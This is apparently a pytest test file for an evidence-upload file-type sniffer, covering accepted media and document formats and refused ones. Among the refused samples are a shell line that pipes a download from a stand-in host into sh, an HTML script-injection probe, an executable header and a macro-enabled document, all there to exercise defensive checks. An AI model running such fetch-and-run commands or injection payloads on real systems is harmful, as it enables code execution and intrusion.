"""Evidence types are decided by their bytes, against an allowlist, and refusals say why."""

from __future__ import annotations

import contextlib
import io
import json
import struct
import wave
import zipfile
from collections.abc import Callable

import PIL.Image
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.evidence.sniff import ALLOWED_MEDIA_TYPES, SniffedType, UnsupportedType, sniff

HEAD = 8192


def image(fmt: str) -> bytes:
    buf = io.BytesIO()
    PIL.Image.new("RGB", (16, 16), (30, 120, 40)).save(buf, format=fmt)
    return buf.getvalue()


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    return box(b"ftyp", major + b"\x00\x00\x02\x00" + b"".join(compatible))


def track(handler: bytes) -> bytes:
    hdlr = box(b"hdlr", b"\x00" * 8 + handler + b"\x00" * 12 + b"Handler\x00")
    return box(b"trak", box(b"mdia", hdlr))


def wav() -> bytes:
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\x00\x01" * 800)
    return buf.getvalue()


def mp3_frames(count: int = 3) -> bytes:
    # MPEG-1 Layer III, 128 kbit/s, 44.1 kHz, no padding: 144 * 128000 // 44100 = 417 bytes.
    return (b"\xff\xfb\x90\x00" + b"\x00" * 413) * count


def zipped(*members: tuple[str, bytes], stored_first: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, (name, data) in enumerate(members):
            method = zipfile.ZIP_STORED if stored_first and n == 0 else zipfile.ZIP_DEFLATED
            z.writestr(name, data, compress_type=method)
    return buf.getvalue()


def content_types(main: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main.xml" ContentType="{main}"/></Types>'
    ).encode()


RELS = ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>')
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def docx() -> bytes:
    return zipped(
        ("[Content_Types].xml", content_types(WORD_MAIN)),
        RELS,
        ("word/document.xml", b"<w:document><w:body><w:p>Statement</w:p></w:body></w:document>"),
    )


def xlsx() -> bytes:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return zipped(
        ("[Content_Types].xml", content_types(sheet)),
        RELS,
        ("xl/workbook.xml", b"<workbook><sheets><sheet name='Readings'/></sheets></workbook>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData/></worksheet>"),
    )


def odf(mimetype: str) -> bytes:
    return zipped(
        ("mimetype", mimetype.encode()),
        ("META-INF/manifest.xml", b"<manifest:manifest/>"),
        ("content.xml", b"<office:document-content/>"),
        stored_first=True,
    )


def feature_collection(n: int) -> bytes:
    features = [
        {
            "type": "Feature",
            "properties": {"well": i},
            "geometry": {"type": "Point", "coordinates": [36.7 + i / 1e4, -1.2]},
        }
        for i in range(n)
    ]
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
KML_DOC = (
    f'{XML_DECL}<!-- exported -->\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark/></kml>'
)
GPX_DOC = (
    f'{XML_DECL}<gpx version="1.1" creator="phone" xmlns="http://www.topografix.com/GPX/1/1"/>'
)
CSV_ROWS = "site,lat,lon,reading\nWell 1,-1.28,36.78,0.4\nWell 2,-1.29,36.79,0.7\n"

ACCEPTED: dict[str, tuple[Callable[[], bytes], str]] = {
    "jpeg": (lambda: image("JPEG"), "image/jpeg"),
    "png": (lambda: image("PNG"), "image/png"),
    "webp": (lambda: image("WEBP"), "image/webp"),
    "heic": (lambda: ftyp(b"heic", b"mif1", b"heic") + box(b"meta", b"\x00" * 8), "image/heic"),
    "heif mif1": (lambda: ftyp(b"mif1", b"mif1", b"heic"), "image/heic"),
    "pdf": (lambda: b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", "application/pdf"),
    "mp3 with ID3": (lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + mp3_frames(), "audio/mpeg"),
    "mp3 frames": (mp3_frames, "audio/mpeg"),
    "m4a": (lambda: ftyp(b"M4A ", b"M4A ", b"mp42", b"isom"), "audio/mp4"),
    "mp42 audio only": (
        lambda: ftyp(b"mp42", b"mp42", b"isom") + box(b"moov", track(b"soun")),
        "audio/mp4",
    ),
    "mp4": (lambda: ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41"), "video/mp4"),
    "mp42 with video": (
        lambda: ftyp(b"mp42", b"isom") + box(b"moov", track(b"vide") + track(b"soun")),
        "video/mp4",
    ),
    "quicktime": (lambda: ftyp(b"qt  ", b"qt  "), "video/quicktime"),
    "ogg vorbis": (
        lambda: b"OggS\x00\x02" + b"\x00" * 20 + b"\x01\x1e\x01vorbis" + b"\x00" * 30,
        "audio/ogg",
    ),
    "wav": (wav, "audio/wav"),
    "docx": (docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": (xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "odt": (
        lambda: odf("application/vnd.oasis.opendocument.text"),
        "application/vnd.oasis.opendocument.text",
    ),
    "csv": (lambda: CSV_ROWS.encode(), "text/csv"),
    "csv semicolons with BOM": (lambda: "\ufeffa;b;c\n1;2;3\n4;5;6\n".encode(), "text/csv"),
    "csv tabs": (lambda: b"a\tb\n1\t2\n", "text/csv"),
    "csv quoted commas": (lambda: b'name,note\n"Acme, Ltd","dust, noise"\nB,"x"\n', "text/csv"),
    "csv cut mid-row": (lambda: (CSV_ROWS * 400).encode()[:HEAD], "text/csv"),
    "geojson": (lambda: feature_collection(2), "application/geo+json"),
    "geojson cut off": (lambda: feature_collection(500)[:HEAD], "application/geo+json"),
    "geojson geometry": (lambda: b'{"type": "Polygon", "coordinates": []}', "application/geo+json"),
    "kml": (lambda: KML_DOC.encode(), "application/vnd.google-earth.kml+xml"),
    "kml with BOM": (lambda: ("\ufeff" + KML_DOC).encode(), "application/vnd.google-earth.kml+xml"),
    "gpx": (lambda: GPX_DOC.encode(), "application/gpx+xml"),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_accepted_kinds_are_recognised_from_their_bytes(name: str) -> None:
    build, media_type = ACCEPTED[name]
    found = sniff(build()[:HEAD])
    assert found.media_type == media_type
    assert found.media_type in ALLOWED_MEDIA_TYPES
    assert found.extension.startswith(".")
    assert found.family in {"image", "document", "audio", "video", "data"}


def test_a_jpeg_is_an_image_and_a_wav_is_audio() -> None:
    assert sniff(image("JPEG")) == SniffedType("image/jpeg", ".jpg", "image")
    assert sniff(wav()).family == "audio"


def test_a_utf8_character_cut_by_the_head_does_not_spoil_a_csv() -> None:
    row = "Kilimani—école,-1.28,36.78\n".encode()
    data = row * (HEAD // len(row) + 2)
    cut = next(n for n in range(HEAD - len(row), HEAD) if data[n] & 0xC0 == 0x80)
    assert sniff(data[:cut]).media_type == "text/csv"


WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 47
    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!This program cannot be run in DOS mode.\r\n"
)

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "windows exe named .jpg": (lambda: WINDOWS_EXE, "a Windows executable"),
    "elf": (lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "executable (ELF)"),
    "shell script": (lambda: b"#!/bin/sh\ncurl http://x | sh\n", "a script"),
    "html page": (lambda: b"<!DOCTYPE html>\n<html><body>Hi</body></html>", "an HTML page"),
    "html without doctype": (lambda: b"  \n<html><script>alert(1)</script></html>", "an HTML page"),
    "svg": (
        lambda: f'{XML_DECL}<svg xmlns="http://www.w3.org/2000/svg"/>'.encode(),
        "an SVG image",
    ),
    "other xml": (lambda: f"{XML_DECL}<rss/>".encode(), "not KML or GPX"),
    "plain zip": (
        lambda: zipped(("notes.txt", b"hello"), ("photo.jpg", b"\xff\xd8\xff")),
        "a ZIP archive",
    ),
    "zip with only content types": (
        lambda: zipped(("[Content_Types].xml", content_types(WORD_MAIN))),
        "a ZIP archive",
    ),
    "macro-enabled word": (
        lambda: zipped(
            (
                "[Content_Types].xml",
                content_types("application/vnd.ms-word.document.macroEnabled.main+xml"),
            ),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", b"\x00" * 64),
        ),
        "macro-enabled",
    ),
    "odf spreadsheet": (
        lambda: odf("application/vnd.oasis.opendocument.spreadsheet"),
        "OpenDocument",
    ),
    "text with a NUL": (
        lambda: b"site,reading\nWell 1,\x000.4\nWell 2,0.7\n",
        "unknown binary data",
    ),
    "plain prose": (lambda: b"We met the district officer today. He said no.\n", "plain text"),
    "json that is not geojson": (lambda: b'{"name": "survey", "rows": []}', "not GeoJSON"),
    "deeply nested json": (lambda: b'{"a":' * 2000, "not GeoJSON"),
    "amr voice memo": (lambda: b"#!AMR\n\x3c\x91\x17\x16", "AMR"),
    "json array": (lambda: b'[{"type": "Feature"}]', "not GeoJSON"),
    "empty": (lambda: b"", "an empty file"),
    "random binary": (lambda: bytes(range(1, 256)) * 4, "not UTF-8"),
    "gif": (lambda: b"GIF89a\x01\x00\x01\x00", "a GIF image"),
    "avif": (lambda: ftyp(b"avif", b"avif", b"mif1", b"miaf"), "AVIF"),
    "3gp": (lambda: ftyp(b"3gp4", b"3gp4", b"3gp6"), "ISO media"),
    "avi": (lambda: b"RIFF\x00\x10\x00\x00AVI LIST", "RIFF"),
    "lone mpeg header then noise": (
        lambda: b"\xff\xfb\x90\x00" + b"\x01\x02" * 300,
        "unknown binary data",
    ),
    "legacy .doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56, "old-style Office"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_other_content_is_refused_naming_what_it_is(name: str) -> None:
    build, detected = REFUSED[name]
    with pytest.raises(UnsupportedType) as caught:
        sniff(build()[:HEAD])
    message = str(caught.value)
    assert detected in message
    assert "Accepted: photos (JPEG, PNG, WebP, HEIC)" in message


@given(st.binary(max_size=1024))
def test_arbitrary_bytes_are_typed_or_refused_never_a_crash(data: bytes) -> None:
    with contextlib.suppress(UnsupportedType):
        assert sniff(data).media_type in ALLOWED_MEDIA_TYPES


@pytest.mark.parametrize("name", [*ACCEPTED, *REFUSED])
def test_every_truncation_of_a_sample_is_typed_or_refused(name: str) -> None:
    build, _ = ACCEPTED.get(name) or REFUSED[name]
    data = build()[:HEAD]
    for end in range(0, len(data), max(1, len(data) // 300)):
        with contextlib.suppress(UnsupportedType):
            sniff(data[:end])
